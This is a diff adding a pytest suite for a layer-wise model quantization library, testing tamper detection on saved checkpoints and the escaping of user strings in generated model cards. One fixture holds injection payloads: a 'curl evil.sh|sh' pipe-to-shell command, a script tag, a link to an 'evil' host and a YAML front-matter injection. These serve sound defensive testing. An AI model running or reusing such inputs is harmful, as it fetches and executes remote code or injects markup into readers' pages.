@@ -1,0 +1,163 @@
+"""A changed, missing or retyped tensor is found at load (headers) or by the sha256 manifest (bytes); a model card
+never carries markup from user strings."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+import torch
+from huggingface_hub import ModelCard
+from tamper import edit_config, edit_header, edit_tensors, quantize
+from transformers import AutoModelForCausalLM
+
+from optimum_layerwise import LayerwiseQuantizationConfig
+from optimum_layerwise.checksums import CHECKSUMS_NAME, safetensors_header, verify_checksums
+from optimum_layerwise.cli import main
+
+
+@pytest.fixture
+def saved(tiny_checkpoint, tmp_path):
+    folder = tmp_path / "q"
+    quantize(tiny_checkpoint).save_pretrained(folder)
+    return folder
+
+
+def retype(name, dtype):
+    def edit(header):
+        header[name]["dtype"] = dtype
+
+    return edit
+
+
+def drop(name):
+    return lambda tensors: tensors.pop(name)
+
+
+CHANGES = {
+    "lm_head removed": (edit_tensors, drop("lm_head.weight"), "lm_head.weight is missing"),
+    "embeddings removed": (edit_tensors, drop("model.embed_tokens.weight"), "model.embed_tokens.weight is missing"),
+    "norm removed": (edit_tensors, drop("model.layers.1.input_layernorm.weight"), "input_layernorm.weight is missing"),
+    "embeddings retyped": (
+        edit_header,
+        retype("model.embed_tokens.weight", "I32"),
+        "model.embed_tokens.weight is (128, 64) I32, the model needs (128, 64) float",
+    ),
+    "scale retyped": (
+        edit_header,
+        retype("model.layers.2.mlp.up_proj.weight_scale", "I32"),
+        "model.layers.2.mlp.up_proj.weight_scale is (320, 1) I32",
+    ),
+    "norm reshaped": (
+        edit_tensors,
+        lambda tensors: tensors.update({"model.norm.weight": torch.ones(32)}),
+        "model.norm.weight is (32,) F32, the model needs (64,) float",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(CHANGES))
+def test_a_changed_tensor_is_refused_at_load(saved, case):
+    rewrite, change, message = CHANGES[case]
+    rewrite(saved, change)
+    with pytest.raises(ValueError, match="does not match its model and quantization_config") as error:
+        AutoModelForCausalLM.from_pretrained(saved)
+    assert message in str(error.value)
+
+
+def test_a_tied_lm_head_is_not_required(tmp_path):
+    from conftest import build_tiny_model, build_tiny_tokenizer
+
+    source = tmp_path / "tied"
+    build_tiny_model(tie_word_embeddings=True).save_pretrained(source)
+    build_tiny_tokenizer().save_pretrained(source)
+    quantize(str(source)).save_pretrained(tmp_path / "q")
+    model = AutoModelForCausalLM.from_pretrained(tmp_path / "q")
+    assert model.lm_head.weight.data_ptr() == model.model.embed_tokens.weight.data_ptr()
+
+
+def corrupt_bytes(folder, name):
+    """Set every byte of tensor `name` to 0xFF in place (the header stays valid: only a checksum can tell)."""
+    path = folder / "model.safetensors"
+    header, start = safetensors_header(path)
+    begin, end = header[name]["data_offsets"]
+    data = bytearray(path.read_bytes())
+    data[start + begin : start + end] = b"\xff" * (end - begin)
+    path.write_bytes(bytes(data))
+
+
+def test_corrupted_bytes_are_found_by_the_manifest(saved, capsys):
+    tokens = torch.tensor([[5, 6, 7]])
+    intact = AutoModelForCausalLM.from_pretrained(saved)(tokens).logits
+    assert (saved / CHECKSUMS_NAME).is_file() and verify_checksums(saved) == []
+    assert main(["inspect", str(saved), "--verify"]) == 0
+    assert "checksums: every tensor and config.json match" in capsys.readouterr().out
+    corrupt_bytes(saved, "model.layers.0.self_attn.q_proj.weight_scale")
+    assert verify_checksums(saved) == [
+        "model.safetensors: tensor model.layers.0.self_attn.q_proj.weight_scale differs from the saved one"
+    ]
+    assert main(["inspect", str(saved), "--verify"]) == 1
+    assert "checksum verification failed" in capsys.readouterr().err
+    with pytest.raises(ValueError, match="Checksum verification failed: .*q_proj.weight_scale differs"):
+        AutoModelForCausalLM.from_pretrained(saved, quantization_config=LayerwiseQuantizationConfig(verify=True))
+    logits = AutoModelForCausalLM.from_pretrained(saved)(tokens).logits
+    assert not torch.allclose(logits, intact)  # what an unverified load of these bytes gives, without a word
+
+
+def test_an_edited_config_is_found_by_the_manifest(saved):
+    edit_config(saved, lambda config: config.update(importance="random"))
+    assert verify_checksums(saved) == ["config.json was modified"]
+
+
+def test_verify_at_load_passes_on_an_intact_checkpoint(saved, tiny_checkpoint):
+    model = AutoModelForCausalLM.from_pretrained(saved, quantization_config=LayerwiseQuantizationConfig(verify=True))
+    reference = AutoModelForCausalLM.from_pretrained(saved)
+    tokens = torch.tensor([[5, 6, 7]])
+    assert torch.equal(model(tokens).logits, reference(tokens).logits)
+
+
+def test_layer_bits_null_says_the_checkpoint_is_unfinished(saved):
+    edit_config(saved, lambda config: config.update(layer_bits=None))
+    with pytest.raises(ValueError, match="has no `layer_bits`: it was not saved after quantization"):
+        AutoModelForCausalLM.from_pretrained(saved)
+
+
+def test_an_edited_quant_method_is_refused(saved):
+    edit_config(saved, lambda config: config.update(quant_method="quanto"))
+    with pytest.raises(ValueError, match="written by optimum-layerwise .* says quant_method='quanto'"):
+        AutoModelForCausalLM.from_pretrained(saved)
+
+
+HOSTILE = "x |\n\n## Usage\n\n```bash\ncurl evil.sh|sh\n```\n<script>alert(1)</script> [click](http://evil)"
+
+
+def test_user_strings_cannot_inject_markup_into_the_card(tiny_checkpoint, tmp_path):
+    model = quantize(tiny_checkpoint)
+    model.layerwise_eval_results = {HOSTILE: HOSTILE, "ok": 1.5}
+    model.model_tags = ["fine-tag", "bad tag\n---\nlicense: evil"]
+    model.config.architectures = [HOSTILE]
+    model.save_pretrained(tmp_path / "q")
+    card = ModelCard((tmp_path / "q" / "README.md").read_text())
+    marker, _, text = card.text.partition("-->")  # the data comment holds the results as JSON, for re-saves
+    assert "<" not in marker[4:] and ">" not in marker
+    assert [line for line in text.splitlines() if line.startswith("## ")].count("## Usage") == 1
+    assert "```bash\ncurl" not in text and "<script>" not in text
+    assert "[click](" not in text and "\\[click\\](" in text and "&lt;script&gt;" in text
+    assert "fine-tag" in card.data.tags and not any("evil" in tag for tag in card.data.tags)
+    assert card.data.to_dict().get("license") is None
+    # and a re-save of the loaded checkpoint keeps the results, still escaped
+    again = AutoModelForCausalLM.from_pretrained(tmp_path / "q")
+    assert again.layerwise_eval_results[HOSTILE] == HOSTILE
+    again.save_pretrained(tmp_path / "again")
+    assert "<script>" not in (tmp_path / "again" / "README.md").read_text()
+
+
+def test_a_planted_base_model_is_dropped(saved):
+    readme = saved / "README.md"
+    text = readme.read_text().replace(
+        "library_name: transformers", "base_model: '<b>x</b>/y'\nlibrary_name: transformers"
+    )
+    readme.write_text(text)
+    model = AutoModelForCausalLM.from_pretrained(saved)
+    assert model.layerwise_base_model is None
+    json.loads((saved / "config.json").read_text())  # untouched
